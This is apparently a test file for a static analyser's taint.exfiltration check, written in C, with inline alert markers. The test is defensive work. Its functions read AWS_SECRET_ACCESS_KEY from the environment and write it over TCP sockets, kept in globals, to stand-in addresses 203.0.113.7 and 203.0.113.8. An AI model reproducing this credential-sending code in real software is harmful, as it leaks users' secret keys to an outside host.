/*
 * taint.exfiltration through a descriptor kept in a global: one function
 * connects and stores the socket in `g_sock`, another writes to whatever
 * `g_sock` holds, or to the socket member of a global struct. A write to
 * a global that only ever holds a regular file (a cache), or to the file
 * member beside the socket, sends nothing over the network.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int g_sock = -1;
static int g_cache = -1;

static struct link {
    int sock;
    int journal;
} g_link = {-1, -1};

static void open_channel(void)
{
    struct sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(443);
    inet_pton(AF_INET, "203.0.113.7", &a.sin_addr);
    g_sock = socket(AF_INET, SOCK_STREAM, 0);
    if (g_sock >= 0 && connect(g_sock, (struct sockaddr *)&a, sizeof a) != 0) {
        close(g_sock);
        g_sock = -1;
    }
}

static void open_cache(void)
{
    g_cache = open("/var/cache/tool/state", O_WRONLY | O_CREAT | O_TRUNC, 0600);
}

static void ship(const char *s)
{
    if (g_sock >= 0)
        write(g_sock, s, strlen(s)); // $ Alert[taint.exfiltration]
}

static void remember(const char *s)
{
    if (g_cache >= 0)
        write(g_cache, s, strlen(s));
}

static void link_up(void)
{
    struct sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(8443);
    inet_pton(AF_INET, "203.0.113.8", &a.sin_addr);
    g_link.sock = socket(AF_INET, SOCK_STREAM, 0);
    connect(g_link.sock, (struct sockaddr *)&a, sizeof a);
    g_link.journal = open("/var/lib/tool/journal", O_WRONLY | O_CREAT | O_APPEND, 0600);
}

static void link_send(const char *s)
{
    write(g_link.sock, s, strlen(s)); // $ Alert[taint.exfiltration]
}

static void link_journal(const char *s)
{
    write(g_link.journal, s, strlen(s));
}

int main(void)
{
    const char *home = getenv("HOME");
    open_channel();
    open_cache();
    const char *key = getenv("AWS_SECRET_ACCESS_KEY");
    if (key)
        ship(key);
    if (home)
        remember(home);
    link_up();
    if (key) {
        link_send(key);
        link_journal(key);
    }
    return 0;
}
